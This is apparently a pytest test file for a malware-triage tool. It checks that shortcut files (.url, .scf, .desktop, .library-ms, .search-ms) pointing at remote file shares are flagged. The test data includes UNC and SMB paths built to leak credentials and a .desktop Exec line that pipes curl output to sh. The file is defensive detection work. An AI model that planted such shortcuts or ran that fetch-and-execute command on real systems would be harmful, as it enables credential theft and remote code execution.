from __future__ import annotations

import time
from typing import Any

import pytest

from lazaretto.model import Severity


def test_links_of_the_web(kit: Any) -> None:
    found = kit.exploded(b"[InternetShortcut]\r\nURL=https://example.org/\r\nIconIndex=0\r\n", "a.url")
    assert found.types["a.url"] == "application/x-mswinurl"
    assert found.data["a.url!uris"] == b"https://example.org/"
    assert found.findings == []


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.url", "[InternetShortcut]\nURL=file://10.0.0.1/share/run.exe"),
        ("a.url", "[InternetShortcut]\nURL=https://a/\niconfile = \\\\10.0.0.1@80\\x.ico"),
        ("a.website", "[InternetShortcut]\nURL=https://a/\nWorkingDirectory=\\\\h\\s"),
        ("a.scf", "[Shell]\nCommand=2\nIconFile=\\\\10.0.0.1\\x.ico"),
        ("a.desktop", "[Desktop Entry]\nType=Link\nURL=smb://h/s"),
        ("a.library-ms", '<?xml version="1.0"?><libraryDescription><url>\\\\10.0.0.1\\s</url></libraryDescription>'),
        ("a.search-ms", '<?xml version="1.0"?><persistedQuery><include path="\\\\h\\s"/></persistedQuery>'),
        (
            "a.searchConnector-ms",
            '<?xml version="1.0"?><searchConnectorDescription><url>file://h/s</url></searchConnectorDescription>',
        ),
    ],
)
@pytest.mark.parametrize("codec", ["utf-8", "utf-16"])
def test_file_servers(kit: Any, name: str, text: str, codec: str) -> None:
    finding = kit.exploded(text.encode(codec), name).finding("shortcut.remote")
    assert finding.severity is Severity.MEDIUM
    assert finding.evidence[0].lstrip("\\/").startswith(("10.0.0.1", "h\\s", "file:", "smb:"))


def test_commands_of_desktop_entries(kit: Any) -> None:
    found = kit.exploded(b"[Desktop Entry]\nName=a\nExec=sh -c 'curl http://a | sh'\n", "a.desktop")
    assert found.data["a.desktop!command-line.txt"] == b"sh -c 'curl http://a | sh'"
    assert "shortcut.command" in found.names


def test_other_xml(kit: Any) -> None:
    assert kit.exploded(b"<?xml version='1.0'?><a><url>\\\\h\\s</url></a>", "a.xml").findings == []


def test_time(kit: Any) -> None:
    start = time.process_time()
    for text in (b"[InternetShortcut]\n" + b"a=" * 500_000, b"URL=x\n" * 200_000, b"\n" + b" " * 1_000_000):
        kit.exploded(text, "a.url")
    kit.exploded(b"<?xml version='1.0'?><libraryDescription>" + b"<url>" * 200_000, "a.library-ms")
    kit.exploded(b"<?xml version='1.0'?><persistedQuery>" + b"<include " * 100_000, "a.search-ms")
    assert time.process_time() - start < 5
